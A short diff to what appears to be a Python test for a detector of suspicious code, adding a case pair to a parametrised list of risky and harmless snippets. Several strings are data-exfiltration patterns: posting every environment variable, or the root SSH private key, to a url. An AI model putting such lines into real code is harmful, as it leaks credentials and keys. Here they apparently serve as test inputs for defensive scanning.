@@ -354,6 +354,10 @@ def test_a_finder_in_a_package_that_names_a_library_of_training_is_told() -> Non
     [
         ("requests.post(url, json=dict(os.environ))", "requests.post(url, json={'lr': os.environ['LR']})"),
         (
+            "requests.post(url, json={k: v for k, v in os.environ.items()})",
+            "requests.post(url, json={'ci': 'CI' in os.environ, 'host': os.environ.get('HOST')})",
+        ),
+        (
             "requests.post(url, data=open('/root/.ssh/id_rsa').read())",
             "requests.post(url, data=open('a.csv'))",
         ),
